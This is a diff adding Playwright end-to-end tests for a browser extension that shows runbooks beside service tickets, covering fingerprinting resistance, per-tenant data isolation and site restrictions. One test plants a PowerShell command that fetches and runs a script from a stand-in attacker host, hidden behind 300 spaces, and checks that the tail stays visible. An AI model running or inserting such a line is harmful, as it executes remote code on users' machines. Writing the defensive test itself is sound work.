@@ -1,0 +1,153 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import type { Page } from '@playwright/test';
+import { E2E_EXTENSION } from '../server/launch-chromium';
+import { sampleRunbook } from '../library/sample-runbook';
+import { expect, HOSTS, panel, test } from './fixtures';
+import { openOptions, packItem } from './pages/options';
+import { jsonFile } from './pages/packs';
+
+// What a pack, a foreign tenant or another page can make the extension do (trust issue #14), on the
+// built extension.
+
+const VPN = '57af7aec73d423002728660c4cf6a71c';
+/** Same fixture server, another organization's tenant name (the resolver maps every *.service-now.com). */
+const FOREIGN = 'globex.service-now.com';
+
+async function open(page: Page, origin: string, sysId = VPN): Promise<void> {
+  await page.goto(`${origin}/incident.do?sys_id=${sysId}`);
+  await expect(panel(page).getByTestId('ticket-text')).toBeVisible();
+}
+
+test('no web-accessible resource: a site cannot probe for the extension, and the panel is still styled', async ({
+  page,
+  server,
+  extensionId,
+}) => {
+  const manifest = JSON.parse(readFileSync(join(E2E_EXTENSION, 'manifest.json'), 'utf8')) as Record<string, unknown>;
+  expect(manifest.web_accessible_resources).toBeUndefined();
+  await open(page, server.origin(HOSTS.servicenow));
+  // What a fingerprinting script does: load a known file of the extension and see whether it answers.
+  const loads = await page.evaluate(
+    (url) =>
+      new Promise<boolean>((resolve) => {
+        const link = document.createElement('link');
+        link.rel = 'stylesheet';
+        link.href = url;
+        link.onload = () => resolve(true);
+        link.onerror = () => resolve(false);
+        document.head.append(link);
+      }),
+    `chrome-extension://${extensionId}/content-scripts/panel.css`,
+  );
+  expect(loads).toBe(false);
+  // The stylesheet is in the shadow root: the panel is docked (position fixed), not unstyled page flow.
+  expect(await panel(page).evaluate((el) => getComputedStyle(el).position)).toBe('fixed');
+});
+
+test("with the organization's sites set, the panel runs on them and not on another tenant", async ({
+  context,
+  extensionId,
+  page,
+  server,
+}) => {
+  // Not set: every tenant, as before.
+  await open(page, server.origin(FOREIGN));
+  const options = await openOptions(context, extensionId);
+  await options.getByTestId('org-sites').fill(`${HOSTS.servicenow}\n*.${HOSTS.jira}`);
+  await options.getByTestId('org-sites-save').click();
+  await expect(options.getByTestId('org-sites-status')).toContainText('only on 2 site(s)');
+
+  // The open foreign page loses its panel at once; a reload brings none.
+  await expect(page.locator('runbook-lens').getByTestId('panel')).toHaveCount(0);
+  await page.reload();
+  await page.waitForTimeout(1500);
+  await expect(page.locator('runbook-lens')).toHaveCount(0);
+  await open(page, server.origin(HOSTS.servicenow));
+
+  // A bad entry is refused whole, with the reason; the saved list stays.
+  await options.getByTestId('org-sites').fill('*.com');
+  await options.getByTestId('org-sites-save').click();
+  await expect(options.getByTestId('org-sites-status')).toContainText('Not saved');
+  await options.reload();
+  await expect(options.getByTestId('org-sites')).toHaveValue(`${HOSTS.servicenow}\n*.${HOSTS.jira}`);
+});
+
+test('tree answers and votes stay with the tenant; "Forget stored ticket data" clears them', async ({
+  context,
+  extensionId,
+  page,
+  server,
+}) => {
+  const ours = server.origin(HOSTS.servicenow);
+  await open(page, ours);
+  const p = panel(page);
+  await p.getByTestId('tree-option').filter({ hasText: 'Yes' }).click();
+  await expect(p.getByTestId('tree-back')).toBeEnabled();
+  await p.getByTestId('helpful-yes').click();
+  await expect(p.getByTestId('helpful-yes')).toHaveAttribute('aria-pressed', 'true');
+
+  // The same ticket number on another tenant is another ticket.
+  await open(page, server.origin(FOREIGN));
+  await expect(p.getByTestId('tree-back')).toBeDisabled();
+  await expect(p.getByTestId('helpful-yes')).toHaveAttribute('aria-pressed', 'false');
+
+  await open(page, ours);
+  await expect(p.getByTestId('tree-back')).toBeEnabled();
+  await expect(p.getByTestId('helpful-yes')).toHaveAttribute('aria-pressed', 'true');
+
+  const options = await openOptions(context, extensionId);
+  await options.getByTestId('forget-ticket-data').click();
+  await expect(options.getByTestId('forget-ticket-data-status')).toHaveText(
+    'Forgot 2 stored ticket entries (tree answers and votes).',
+  );
+  await page.bringToFront();
+  await expect(p.getByTestId('helpful-yes')).toHaveAttribute('aria-pressed', 'false');
+  await page.reload();
+  await expect(p.getByTestId('ticket-text')).toBeVisible();
+  await expect(p.getByTestId('tree-back')).toBeDisabled();
+});
+
+test('a command cannot hide its end: 300 spaces then more code wrap into sight', async ({
+  context,
+  extensionId,
+  page,
+  server,
+}) => {
+  const runbook = sampleRunbook({
+    id: 'acme-hidden-tail',
+    title: 'Hidden tail (Acme)',
+    related: [],
+    relatedQueries: ['quokka problem', 'quokka issue', 'quokka broken'],
+  });
+  runbook.tree.nodes.q3!.options[1] = { label: 'No', outcome: { type: 'resolved', step: 'fix' } };
+  runbook.commands![0]!.code = `Get-Date${' '.repeat(300)}; iex (irm https://evil.example/x.ps1)`;
+  const options = await openOptions(context, extensionId);
+  await options
+    .getByTestId('pack-file')
+    .setInputFiles(jsonFile('tail.json', { schemaVersion: 1, name: 'Tail', runbooks: [runbook] }));
+  await options.getByTestId('pack-confirm').click();
+  await expect(packItem(options, 'Tail')).toBeVisible();
+
+  await open(page, server.origin(HOSTS.servicenow));
+  await page.bringToFront();
+  const p = panel(page);
+  await p.getByTestId('search').fill('quokka');
+  await p.locator('[data-testid="search-result"][data-runbook-id="acme-hidden-tail"]').click();
+  const pre = p.getByTestId('command').first().locator('pre');
+  await pre.scrollIntoViewIfNeeded();
+  const box = await pre.evaluate((el) => {
+    const range = document.createRange();
+    const text = el.querySelector('code')!.firstChild!;
+    const at = text.textContent!.indexOf('iex');
+    range.setStart(text, at);
+    range.setEnd(text, at + 3);
+    const tail = range.getBoundingClientRect();
+    const outer = el.getBoundingClientRect();
+    return {
+      scrolls: el.scrollWidth > el.clientWidth,
+      inside: tail.left >= outer.left && tail.right <= outer.right && tail.bottom <= outer.bottom,
+    };
+  });
+  expect(box).toEqual({ scrolls: false, inside: true });
+});
